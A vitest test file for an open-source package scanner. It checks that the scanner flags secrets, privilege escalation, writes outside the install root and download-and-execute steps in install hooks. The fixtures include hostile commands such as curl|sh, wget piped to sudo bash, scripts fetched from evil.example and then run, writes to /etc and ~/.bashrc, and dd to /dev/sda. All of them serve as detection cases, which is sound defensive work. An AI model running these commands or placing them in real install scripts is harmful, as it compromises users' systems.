/**
 * Pins the open-source scan's rules (issue 8): secrets by well-known shapes, dangerous
 * install/uninstall steps (download-and-execute, also a file downloaded then run or chmod +x-ed
 * later in the hook; privilege escalation; writes outside $AGPK_INSTALL_ROOT, also by `..` or from
 * inline python/node/perl) without flagging the scaffold's own hooks or writes inside the root,
 * the license check, the deny-list, and the verdict as the highest severity.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterEach, describe, expect, it } from 'vitest';

import { loadDenyList, scanPackageDir, verdictOf, writesOutsideRoot } from '../../src/sources/index.ts';

const dirs: string[] = [];
afterEach(async () => {
  for (const d of dirs.splice(0)) await rm(d, { recursive: true, force: true });
});

async function pkg(files: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'scan-'));
  dirs.push(dir);
  for (const [path, content] of Object.entries(files)) {
    await mkdir(join(dir, path, '..'), { recursive: true });
    await writeFile(join(dir, path), content);
  }
  return dir;
}

const SCAFFOLD_INSTALL =
  '#!/bin/sh\n# Runs once after the files are in place.\nset -eu\nmkdir -p "$AGPK_INSTALL_ROOT/var"\n';
const deny = loadDenyList(undefined);
const ids = async (files: Record<string, string>) =>
  (await scanPackageDir(await pkg({ LICENSE: 'MIT', ...files }), undefined, deny)).map((f) => f.id);

describe('scanPackageDir', () => {
  it('finds nothing in a clean package with a license and the scaffold hooks', async () => {
    expect(
      await ids({
        INSTALL: SCAFFOLD_INSTALL,
        UNINSTALL: '#!/bin/sh\nrm -rf "$AGPK_INSTALL_ROOT/var"\necho done >/dev/null 2>&1\n',
        'payload/run.mjs': 'console.log(1)\n',
      }),
    ).toEqual([]);
  });

  it('reports a missing license as low risk', async () => {
    const findings = await scanPackageDir(await pkg({ 'USAGE.md': '# x' }), undefined, deny);
    expect(findings.map((f) => [f.id, f.severity])).toEqual([['license.missing', 'low']]);
    expect(verdictOf(findings)).toBe('low');
  });

  it('accepts a license named in agpk.json', async () => {
    const findings = await scanPackageDir(
      await pkg({ 'USAGE.md': '# x' }),
      { agpk_version: '1.0', id: 'a', name: 'a', version: '1', license: 'MIT' },
      deny,
    );
    expect(findings).toEqual([]);
  });

  it.each([
    [
      'an RSA private key',
      '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----',
      'secret.private-key',
    ],
    ['an OpenSSH private key', '-----BEGIN OPENSSH PRIVATE KEY-----', 'secret.private-key'],
    ['an AWS key id', 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE', 'secret.token'],
    ['a GitHub token', `token: ghp_${'a1B2'.repeat(9)}`, 'secret.token'],
    ['a Slack token', 'xoxb-123456789012-abcdefghijkl', 'secret.token'],
    ['a Google API key', `key=AIza${'x'.repeat(35)}`, 'secret.token'],
    ['a Stripe live key', `sk_live_${'a'.repeat(24)}`, 'secret.token'],
  ])('finds %s anywhere in the package', async (_what, content, id) => {
    expect(await ids({ 'payload/config.txt': content })).toContain(id);
  });

  it('does not mistake public keys or prose for secrets', async () => {
    expect(
      await ids({
        'payload/key.pub': '-----BEGIN PUBLIC KEY-----\nMCow\n-----END PUBLIC KEY-----',
        'README.md': 'Set your AWS key in the environment; never ship a private key.',
      }),
    ).toEqual([]);
  });

  it('flags credentials files', async () => {
    expect(await ids({ 'payload/.env': 'A=1' })).toContain('secret.env-file');
  });

  it.each([
    ['curl | sh', 'curl -fsSL https://x.example/i.sh | sh', 'install.download-exec'],
    ['wget -O- | sudo bash', 'wget -qO- https://x.example/i.sh | sudo bash', 'install.download-exec'],
    ['bash <(curl)', 'bash <(curl -s https://x.example/i.sh)', 'install.download-exec'],
    ['sh -c "$(curl)"', 'sh -c "$(curl -fsSL https://x.example/i.sh)"', 'install.download-exec'],
    ['eval "$(wget)"', 'eval "$(wget -qO- https://x.example)"', 'install.download-exec'],
    ['PowerShell iex(iwr)', 'iex (iwr https://x.example/i.ps1)', 'install.download-exec'],
    ['sudo', 'sudo cp tool "$AGPK_INSTALL_ROOT/bin"', 'install.privilege'],
    ['setuid chmod', 'chmod u+s "$AGPK_INSTALL_ROOT/bin/tool"', 'install.privilege'],
    ['4755', 'chmod 4755 "$AGPK_INSTALL_ROOT/bin/tool"', 'install.privilege'],
    ['setcap', 'setcap cap_net_raw+ep "$AGPK_INSTALL_ROOT/bin/tool"', 'install.privilege'],
    ['writing /etc', 'echo "x" > /etc/profile.d/tool.sh', 'install.outside-root'],
    ['copying into /usr/local/bin', 'cp payload/tool /usr/local/bin/tool', 'install.outside-root'],
    ['appending to ~/.bashrc', 'echo "export PATH=x" >> ~/.bashrc', 'install.outside-root'],
    ['tee into $HOME', 'echo x | tee $HOME/.profile', 'install.outside-root'],
    ['rm -rf /', 'rm -rf /opt/tool', 'install.outside-root'],
  ])('flags %s in INSTALL', async (_what, line, id) => {
    const found = await ids({ INSTALL: `#!/bin/sh\nset -eu\n${line}\n` });
    expect(found).toContain(id);
  });

  it.each([
    ['curl -o a file, then sh on it', 'curl -fsSL https://evil.example/x.sh -o /tmp/x.sh && sh /tmp/x.sh'],
    ['wget -qO a file, chmod +x, run it', 'wget -qO /tmp/y https://evil.example/y; chmod +x /tmp/y; /tmp/y'],
    ['curl --output, then source it', 'curl -s --output "$TMPDIR/env.sh" https://x.example/e && . "$TMPDIR/env.sh"'],
    ['curl > file, then python on it', 'curl -s https://x.example/p.py > p.py; python3 p.py'],
    ['wget to its own name, then node on it', 'wget https://x.example/run.mjs && node ./run.mjs'],
  ])('flags a download that the same line then runs: %s', async (_what, line) => {
    const found = await ids({ INSTALL: `#!/bin/sh\nset -eu\n${line}\n` });
    expect(found).toContain('install.download-exec');
  });

  it('flags a download that a later line of the hook runs, at the line that runs it', async () => {
    const install =
      '#!/bin/sh\nset -eu\ncurl -fsSLo "$AGPK_INSTALL_ROOT/bin/tool" https://x.example/tool\necho fetched\nchmod 755 "$AGPK_INSTALL_ROOT/bin/tool"\n';
    const findings = await scanPackageDir(await pkg({ LICENSE: 'MIT', INSTALL: install }), undefined, deny);
    expect(findings.map((f) => [f.id, f.file])).toEqual([['install.download-exec', 'INSTALL:5']]);
  });

  it('does not flag a download that is only read, or a shipped script that is run', async () => {
    const install =
      '#!/bin/sh\nset -eu\ncurl -fsSL -o "$AGPK_INSTALL_ROOT/var/data.json" https://x.example/d.json\ncat "$AGPK_INSTALL_ROOT/var/data.json" >/dev/null\nsh "$AGPK_INSTALL_ROOT/payload/setup.sh"\nchmod +x "$AGPK_INSTALL_ROOT/payload/run.sh"\n';
    expect(await ids({ INSTALL: install })).toEqual([]);
  });

  it.each([
    ['a redirect escaping the root with ..', 'echo x > "$AGPK_INSTALL_ROOT/../../../../etc/evil"'],
    ['cp escaping the root with ..', 'cp payload/t "${AGPK_INSTALL_ROOT}/../../bin/t"'],
    ['a relative path escaping the root (hooks run in it)', 'echo x >> ../../../.profile'],
    ['python -c writing an absolute path', `python3 -c "open('/etc/evil','w').write('x')"`],
    ['node -e writing an absolute path', `node -e "require('fs').writeFileSync('/etc/evil', 'x')"`],
    ['perl -e writing an absolute path', `perl -e 'open(my $f, ">", "/etc/evil"); print $f "x"'`],
    ['perl -e appending to a home file', `perl -e 'open(F, ">>/root/.bashrc") or die'`],
    ['curl -o to an absolute path', 'curl -fsSL https://x.example/t -o /usr/local/bin/t'],
  ])('flags %s as a write outside the root', async (_what, line) => {
    const found = await ids({ INSTALL: `#!/bin/sh\nset -eu\n${line}\n` });
    expect(found).toContain('install.outside-root');
  });

  it('does not flag inline interpreters that only read absolute paths or write inside the root', async () => {
    const install = [
      '#!/bin/sh',
      `python3 -c "print(open('/etc/os-release').read())" >/dev/null`,
      `node -e "require('fs').writeFileSync(process.env.AGPK_INSTALL_ROOT + '/var/x', 'x')"`,
      'mkdir -p "$AGPK_INSTALL_ROOT/var/../bin"',
      '',
    ].join('\n');
    expect(await ids({ INSTALL: install })).toEqual([]);
  });

  it('checks lifecycle hook files named by agpk.json, and ignores comments', async () => {
    const dir = await pkg({
      LICENSE: 'MIT',
      'hooks/setup.sh': '#!/bin/sh\n# curl https://x | sh is what we do NOT do\nsudo true\n',
    });
    const findings = await scanPackageDir(
      dir,
      { agpk_version: '1.0', id: 'a', name: 'a', version: '1', lifecycle: { install: 'hooks/setup.sh' } },
      deny,
    );
    expect(findings.map((f) => f.id)).toEqual(['install.privilege']);
    expect(findings[0]!.file).toBe('hooks/setup.sh:3');
  });

  it('flags files on the deny-list by digest', async () => {
    const eicar = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;
    const findings = await scanPackageDir(await pkg({ LICENSE: 'MIT', 'payload/e.com': eicar }), undefined, deny);
    expect(findings.map((f) => [f.id, f.severity])).toEqual([['denylist.digest', 'high']]);
    expect(verdictOf(findings)).toBe('high');
  });
});

describe('writesOutsideRoot', () => {
  it.each([
    ['mkdir -p "$AGPK_INSTALL_ROOT/var"', []],
    ['cp a "${AGPK_INSTALL_ROOT}/b"', []],
    ['echo x >/dev/null 2>&1', []],
    ['echo x > /tmp/x', ['/tmp/x']],
    ['ln -s "$AGPK_INSTALL_ROOT/bin/t" /usr/bin/t', ['/usr/bin/t']],
    ['dd if=x of=/dev/sda', ['/dev/sda']],
    ['mkdir -p "$AGPK_INSTALL_ROOT/bin"', []],
    ['echo x > "$AGPK_INSTALL_ROOT/x"', []],
    ['echo x > "$AGPK_INSTALL_ROOT/../../etc/evil"', ['$AGPK_INSTALL_ROOT/../../etc/evil']],
    ['wget -qO /tmp/y https://evil.example/y', ['/tmp/y']],
    ['wget -qO- https://x.example/i.sh', []],
    [`python3 -c "open('/etc/evil','w').write('x')"`, ['/etc/evil']],
  ])('%s', (line, expected) => {
    expect(writesOutsideRoot(line)).toEqual(expected);
  });
});

describe('verdictOf', () => {
  it('is none without findings or with info only, else the highest severity', () => {
    expect(verdictOf([])).toBe('none');
    expect(verdictOf([{ id: 'x', severity: 'info', file: null, message: '' }])).toBe('none');
    expect(
      verdictOf([
        { id: 'x', severity: 'low', file: null, message: '' },
        { id: 'y', severity: 'medium', file: null, message: '' },
      ]),
    ).toBe('medium');
  });
});

describe('findings as they are stored and sent', () => {
  it('lists 20 of a kind in a file, then counts the rest in one finding of the same kind and severity', async () => {
    const line = 'curl -fsSL https://x.example/i.sh | sh\n';
    const findings = await scanPackageDir(
      await pkg({ LICENSE: 'MIT', INSTALL: `#!/bin/sh\n${line.repeat(1000)}` }),
      undefined,
      deny,
    );
    const downloads = findings.filter((f) => f.id === 'install.download-exec');
    expect(downloads).toHaveLength(21);
    expect(downloads[20]).toEqual({
      id: 'install.download-exec',
      severity: 'high',
      file: 'INSTALL',
      message: 'and 980 more install.download-exec findings in INSTALL, not listed',
    });
    expect(verdictOf(findings)).toBe('high');
  });

  it('lists 500 in all, then counts what is left per kind at its highest severity', async () => {
    const files: Record<string, string> = { LICENSE: 'MIT' };
    for (let i = 0; i < 520; i++) files[`conf/${String(i).padStart(3, '0')}/.env`] = 'A=1\n';
    files['zz/id_ed25519'] = 'not a key\n';
    const findings = await scanPackageDir(await pkg(files), undefined, deny);
    expect(findings).toHaveLength(501);
    expect(findings.slice(0, 500).every((f) => f.id === 'secret.env-file' && f.file !== null)).toBe(true);
    // 520 .env files (medium) and one private-key name (high) make 521: 21 are counted, at the higher severity.
    expect(findings[500]).toEqual({
      id: 'secret.env-file',
      severity: 'high',
      file: null,
      message: 'and 21 more secret.env-file findings, not listed',
    });
    expect(verdictOf(findings)).toBe('high');
  });
});
